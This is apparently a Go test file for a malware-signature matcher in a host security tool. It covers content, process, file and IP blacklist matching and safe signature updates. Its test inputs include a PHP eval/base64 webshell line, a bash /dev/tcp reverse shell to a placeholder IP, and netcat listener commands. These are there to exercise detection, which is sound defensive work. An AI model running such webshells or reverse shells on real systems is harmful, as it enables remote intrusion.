package signature

import (
	"context"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestLoadBuiltin(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)
	require.NotNil(t, st)

	snap := st.Snapshot()
	assert.NotEmpty(t, snap.Version)
	assert.Greater(t, snap.SignatureCount, 0)
	assert.Greater(t, snap.IPBlacklistLen, 0)
	assert.Greater(t, snap.FileBlacklistLen, 0)
	assert.Greater(t, snap.ProcBlacklistLen, 0)
}

func TestMatchFileContent(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)

	matches := st.Match(CategoryFile, `<?php eval(base64_decode($_POST["x"])); ?>`)
	require.NotEmpty(t, matches)

	var found *Match
	for i := range matches {
		if matches[i].Signature.ID == "SIG-001" {
			found = &matches[i]
		}
	}
	require.NotNil(t, found, "expected SIG-001 to match")
	assert.Equal(t, SeverityCritical, found.Signature.Severity)
	assert.Equal(t, ActionQuarantine, found.Signature.Action)
}

func TestMatchIsCaseInsensitive(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)

	matches := st.Match(CategoryFile, `EVAL(BASE64_DECODE("x"))`)
	require.NotEmpty(t, matches)
}

func TestMatchReturnsAllMatches(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)

	// Reverse shell plus webshell pattern in one blob.
	content := `eval(base64_decode($x)); bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`
	matches := st.Match(CategoryFile, content)
	require.GreaterOrEqual(t, len(matches), 2)

	ids := map[string]bool{}
	for _, m := range matches {
		ids[m.Signature.ID] = true
	}
	assert.True(t, ids["SIG-001"])
	assert.True(t, ids["SIG-002"])
}

func TestMatchProcessCmdline(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)

	matches := st.Match(CategoryProcess, "nc -lvp 4444")
	require.NotEmpty(t, matches)
	assert.Equal(t, ActionTerminate, matches[0].Signature.Action)
}

func TestFileBlacklistGlobs(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)

	glob, ok := st.MatchFileBlacklist("/var/www/uploads/shell.php.jpg")
	assert.True(t, ok)
	assert.Equal(t, "*.php.jpg", glob)

	_, ok = st.MatchFileBlacklist("/var/www/uploads/photo.jpg")
	assert.False(t, ok)
}

func TestProcessBlacklistFragments(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)

	frag, ok := st.MatchProcessBlacklist("/usr/bin/nc -l -p 9001")
	assert.True(t, ok)
	assert.Equal(t, "nc -l", frag)

	_, ok = st.MatchProcessBlacklist("/usr/bin/vim notes.txt")
	assert.False(t, ok)
}

func TestIPBlacklistCIDRAndExact(t *testing.T) {
	st, err := Load(nil)
	require.NoError(t, err)

	_, ok := st.MatchIPBlacklist("185.220.100.42")
	assert.True(t, ok, "address inside blacklisted CIDR")

	_, ok = st.MatchIPBlacklist("45.155.205.233")
	assert.True(t, ok, "exact blacklisted address")

	_, ok = st.MatchIPBlacklist("8.8.8.8")
	assert.False(t, ok)
}

func TestLoadFromRejectsMalformed(t *testing.T) {
	_, err := LoadFrom([]byte("{not json"), nil)
	require.Error(t, err)

	_, err = LoadFrom([]byte(`{"version":"1","threat_signatures":[]}`), nil)
	require.Error(t, err, "empty signature list must be rejected")
}

func TestBadRegexFallsBackToLiteral(t *testing.T) {
	raw := `{
		"version": "9.9.9",
		"last_updated": "2026-01-01",
		"threat_signatures": [
			{"id":"X-1","name":"broken","pattern":"(unclosed","category":"file","severity":"high","action":"log"}
		]
	}`
	st, err := LoadFrom([]byte(raw), nil)
	require.NoError(t, err)

	// An uncompilable pattern degrades to case-insensitive substring match.
	matches := st.Match(CategoryFile, "prefix (UNCLOSED suffix")
	require.Len(t, matches, 1)
	assert.Equal(t, "X-1", matches[0].Signature.ID)

	assert.Empty(t, st.Match(CategoryFile, "nothing relevant"))
}

func TestLoadFromRejectsDuplicateIDs(t *testing.T) {
	raw := `{
		"version": "1",
		"threat_signatures": [
			{"id":"D-1","name":"a","pattern":"aaa","category":"file","severity":"low","action":"log"},
			{"id":"D-1","name":"b","pattern":"bbb","category":"file","severity":"low","action":"log"}
		]
	}`
	_, err := LoadFrom([]byte(raw), nil)
	require.Error(t, err)
}

const validUpdate = `{
	"version": "9.9.9",
	"last_updated": "2026-01-01",
	"threat_signatures": [
		{"id":"NEW-1","name":"new rule","pattern":"evil_marker","category":"file","severity":"high","action":"quarantine"}
	],
	"ip_blacklist": [],
	"file_blacklist": [],
	"process_blacklist": []
}`

func TestUpdateSwapsValidSet(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(validUpdate))
	}))
	defer srv.Close()

	st, err := Load(nil)
	require.NoError(t, err)

	data, err := st.Update(context.Background(), srv.URL)
	require.NoError(t, err)
	assert.Equal(t, validUpdate, string(data))

	snap := st.Snapshot()
	assert.Equal(t, "9.9.9", snap.Version)
	assert.Equal(t, 1, snap.SignatureCount)

	matches := st.Match(CategoryFile, "contains evil_marker here")
	require.Len(t, matches, 1)
	assert.Equal(t, "NEW-1", matches[0].Signature.ID)
}

func TestUpdateKeepsSetOnInvalidPayload(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("surprise, not signatures"))
	}))
	defer srv.Close()

	st, err := Load(nil)
	require.NoError(t, err)
	before := st.Snapshot()

	_, err = st.Update(context.Background(), srv.URL)
	require.Error(t, err)
	assert.Equal(t, before, st.Snapshot())
}

func TestUpdateKeepsSetOnServerError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "nope", http.StatusInternalServerError)
	}))
	defer srv.Close()

	st, err := Load(nil)
	require.NoError(t, err)
	before := st.Snapshot()

	_, err = st.Update(context.Background(), srv.URL)
	require.Error(t, err)
	assert.Equal(t, before, st.Snapshot())
}

func TestUpdateTimeoutKeepsSet(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		<-release
	}))
	defer srv.Close()
	defer close(release)

	st, err := Load(nil)
	require.NoError(t, err)
	st.SetHTTPClient(&http.Client{Timeout: 50 * time.Millisecond})
	before := st.Snapshot()

	_, err = st.Update(context.Background(), srv.URL)
	require.Error(t, err)
	assert.Equal(t, before, st.Snapshot(), "timed-out update must leave the active set untouched")

	// The old rules still match.
	assert.NotEmpty(t, st.Match(CategoryFile, `eval(base64_decode("x"))`))
}
